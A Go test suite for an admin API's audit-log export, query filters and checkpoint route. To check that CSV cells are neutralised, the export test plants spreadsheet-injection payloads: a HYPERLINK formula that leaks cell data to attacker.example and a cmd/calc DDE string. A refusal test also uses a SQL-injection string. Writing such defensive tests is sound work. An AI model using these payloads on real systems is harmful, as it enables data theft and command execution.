package adminapi_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/portcullis/portcullis/internal/adminapi"
	"github.com/portcullis/portcullis/internal/audit"
	"github.com/portcullis/portcullis/internal/audit/audittest"
)

// appendRaw stores events directly (bypassing the API) and returns them.
func appendRaw(t *testing.T, f *fixture, events ...*audit.Event) {
	t.Helper()
	for _, e := range events {
		if e.ID == "" {
			e.ID = audit.NewID()
		}
		if e.Time.IsZero() {
			e.Time = f.clock.Now()
		}
	}
	if err := f.db.AppendAudit(context.Background(), audittest.Chain(), events); err != nil {
		t.Fatal(err)
	}
}

func exportLines(t *testing.T, f *fixture, query string) ([]string, *httptest.ResponseRecorder, string) {
	t.Helper()
	w, rid := f.do(rootP, "GET", "/admin/v1/audit/export"+query, "")
	if w.Code != http.StatusOK {
		return nil, w, rid
	}
	var lines []string
	sc := bufio.NewScanner(strings.NewReader(w.Body.String()))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		lines = append(lines, sc.Text())
	}
	return lines, w, rid
}

// TestAuditExportJSONL: every matching event, oldest first, across more
// than one internal page, and the export itself is audited first.
func TestAuditExportJSONL(t *testing.T) {
	f := newFixture(t)
	const n = audit.MaxQueryLimit + 5 // forces a second page
	batch := make([]*audit.Event, n)
	for i := range batch {
		batch[i] = &audit.Event{Type: audit.ToolCallStart, Principal: "dev", Roles: []string{"developer"},
			Tool: "read_file", Status: audit.StatusStarted}
	}
	appendRaw(t, f, batch...)
	appendRaw(t, f, &audit.Event{Type: audit.PolicyDeny, Principal: "gina", Roles: []string{"guest"}, Tool: "write_file",
		Status: audit.StatusRefused, Decision: audit.DecisionDeny})

	lines, w, rid := exportLines(t, f, "")
	if w.Code != http.StatusOK {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("Content-Type %q", ct)
	}
	// n + the denial + the audit.export record written before streaming.
	if len(lines) != n+2 {
		t.Fatalf("%d lines, want %d", len(lines), n+2)
	}
	var prev int64
	for i, l := range lines {
		var e audit.Event
		if err := json.Unmarshal([]byte(l), &e); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		if e.Seq != prev+1 {
			t.Fatalf("line %d: seq %d after %d (not complete or not oldest first)", i, e.Seq, prev)
		}
		prev = e.Seq
		if e.Hash == "" || e.PrevHash == "" {
			t.Fatalf("line %d lacks its chain hashes", i)
		}
	}
	evs := f.spy.byRequest(rid)
	if len(evs) != 1 || evs[0].Type != audit.AuditExport || !strings.Contains(evs[0].Detail, "filters") {
		t.Errorf("export audited as %+v", evs)
	}

	// Filters apply to the export: role, decision.
	lines, _, _ = exportLines(t, f, "?role=guest&decision=deny")
	if len(lines) != 1 || !strings.Contains(lines[0], `"principal":"gina"`) {
		t.Errorf("role+decision filter: %v", lines)
	}
	// A role filter matches whole role names only.
	if lines, _, _ := exportLines(t, f, "?role=dev"); len(lines) != 0 {
		t.Errorf("role=dev matched %d events (substring of developer)", len(lines))
	}
}

// TestAuditExportCSV: header, one row per event, and cells an attacker
// controls cannot become spreadsheet formulas.
func TestAuditExportCSV(t *testing.T) {
	f := newFixture(t)
	evil := []string{`=HYPERLINK("http://attacker.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1"}
	for _, s := range evil {
		appendRaw(t, f, &audit.Event{Type: audit.ToolCallRefused, Principal: s, Tool: s, Detail: s,
			Status: audit.StatusRefused})
	}
	w, _ := f.do(rootP, "GET", "/admin/v1/audit/export?format=csv&type=tool.call.refused", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	if ct := w.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type %q", ct)
	}
	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(evil)+1 {
		t.Fatalf("%d rows, want header + %d", len(rows), len(evil))
	}
	if strings.Join(rows[0][:5], ",") != "seq,id,time,type,code" || len(rows[0]) != len(audit.CSVColumns) {
		t.Errorf("header %v", rows[0])
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	for i, r := range rows[1:] {
		if r[col["code"]] != fmt.Sprint(audit.ToolCallRefused.Code()) {
			t.Errorf("row %d code %q", i, r[col["code"]])
		}
		for _, c := range []string{"principal", "tool", "detail"} {
			v := r[col[c]]
			if v != "'"+evil[i] {
				t.Errorf("row %d %s = %q, want it prefixed with an apostrophe", i, c, v)
			}
		}
	}
}

// TestAuditExportRefusals: bad parameters are 400 before anything is
// streamed; an export that cannot be audited is refused with 503 and no
// records; a non-admin is refused.
func TestAuditExportRefusals(t *testing.T) {
	f := newFixture(t)
	appendRaw(t, f, &audit.Event{Type: audit.ToolCallStart, Principal: "dev", Status: audit.StatusStarted})
	for _, q := range []string{"format=xml", "format=", "limit=5", "order=desc", "since=garbage", "before=0",
		"chain=a%2Fb", "chain=%27%20OR%201%3D1%20--", "chain=" + strings.Repeat("a", 65)} {
		w, rid := f.do(rootP, "GET", "/admin/v1/audit/export?"+q, "")
		if q == "format=" { // empty means the default
			if w.Code != http.StatusOK {
				t.Errorf("%s: status %d", q, w.Code)
			}
			continue
		}
		if w.Code != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 400: %s", q, w.Code, w.Body)
		}
		if len(f.spy.byRequest(rid)) != 0 {
			t.Errorf("%s: a refused export was recorded as done", q)
		}
	}
	f.spy.failOn(audit.AuditExport)
	w, _ := f.do(rootP, "GET", "/admin/v1/audit/export", "")
	if w.Code != http.StatusServiceUnavailable || strings.Contains(w.Body.String(), `"seq"`) {
		t.Errorf("unaudited export: status %d body %s", w.Code, w.Body)
	}
	for _, p := range [...]struct {
		name string
		w    *httptest.ResponseRecorder
	}{{"developer", first(f.do(devP, "GET", "/admin/v1/audit/export", ""))}, {"guest", first(f.do(guestP, "POST", "/admin/v1/audit/checkpoint", ""))}} {
		if p.w.Code != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", p.name, p.w.Code)
		}
	}
}

func first(w *httptest.ResponseRecorder, _ string) *httptest.ResponseRecorder { return w }

// TestAuditQueryNewFilters: role, plugin server, session, after and order.
func TestAuditQueryNewFilters(t *testing.T) {
	f := newFixture(t)
	appendRaw(t, f,
		&audit.Event{Type: audit.ToolCallStart, Principal: "dev", Roles: []string{"developer", "reviewer"}, Tool: "notes__read", Server: "notes", Session: "s1"},
		&audit.Event{Type: audit.ToolCallStart, Principal: "gina", Roles: []string{"guest"}, Tool: "read_file", Session: "s2"},
		&audit.Event{Type: audit.ToolCallEnd, Principal: "dev", Roles: []string{"developer"}, Tool: "notes__read", Server: "notes", Session: "s1"},
	)
	query := func(q string) []audit.Event {
		t.Helper()
		w, _ := f.do(rootP, "GET", "/admin/v1/audit?"+q, "")
		if w.Code != http.StatusOK {
			t.Fatalf("%s: %d %s", q, w.Code, w.Body)
		}
		var out struct{ Events []audit.Event }
		if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
			t.Fatal(err)
		}
		return out.Events
	}
	if got := query("role=reviewer"); len(got) != 1 || got[0].Seq != 1 {
		t.Errorf("role=reviewer: %+v", got)
	}
	if got := query("server=notes"); len(got) != 2 {
		t.Errorf("server=notes: %d", len(got))
	}
	if got := query("session=s2"); len(got) != 1 || got[0].Principal != "gina" {
		t.Errorf("session=s2: %+v", got)
	}
	got := query("after=1&order=asc")
	if len(got) != 2 || got[0].Seq != 2 || got[1].Seq != 3 {
		t.Errorf("after=1&order=asc: %+v", got)
	}
	if w, _ := f.do(rootP, "GET", "/admin/v1/audit?order=sideways", ""); w.Code != http.StatusBadRequest {
		t.Errorf("order=sideways: %d", w.Code)
	}
	if w, _ := f.do(rootP, "GET", "/admin/v1/audit?after=-1", ""); w.Code != http.StatusBadRequest {
		t.Errorf("after=-1: %d", w.Code)
	}
}

// TestAuditCheckpointRoute: 501 without a checkpointer; otherwise the
// checkpoint as JSON, and errors map to 503.
func TestAuditCheckpointRoute(t *testing.T) {
	f := newFixture(t)
	if w, _ := f.do(rootP, "POST", "/admin/v1/audit/checkpoint", ""); w.Code != http.StatusNotImplemented {
		t.Errorf("no checkpointer: %d", w.Code)
	}
	var fail bool
	api, err := adminapi.New(adminapi.Deps{Store: f.db, Authn: f.an, Policy: f.pol, Audit: f.spy, Logger: slog.New(slog.DiscardHandler),
		RequestMeta: func(*http.Request) (string, string) { return "req", "192.0.2.1:1" },
		Checkpoint: func(ctx context.Context) (audit.Checkpoint, error) {
			if fail {
				return audit.Checkpoint{}, fmt.Errorf("%w: disk full", audit.ErrUnavailable)
			}
			return audit.Checkpoint{Seq: 41, Hash: strings.Repeat("ab", 32), Signature: "sig"}, nil
		}})
	if err != nil {
		t.Fatal(err)
	}
	f.api = api
	do := func() *httptest.ResponseRecorder { return first(f.do(rootP, "POST", "/admin/v1/audit/checkpoint", "")) }
	w := do()
	var cp audit.Checkpoint
	if w.Code != http.StatusOK || json.Unmarshal(w.Body.Bytes(), &cp) != nil || cp.Seq != 41 {
		t.Fatalf("checkpoint: %d %s", w.Code, w.Body)
	}
	fail = true
	if w := do(); w.Code != http.StatusServiceUnavailable {
		t.Errorf("failing checkpoint: %d %s", w.Code, w.Body)
	}
}
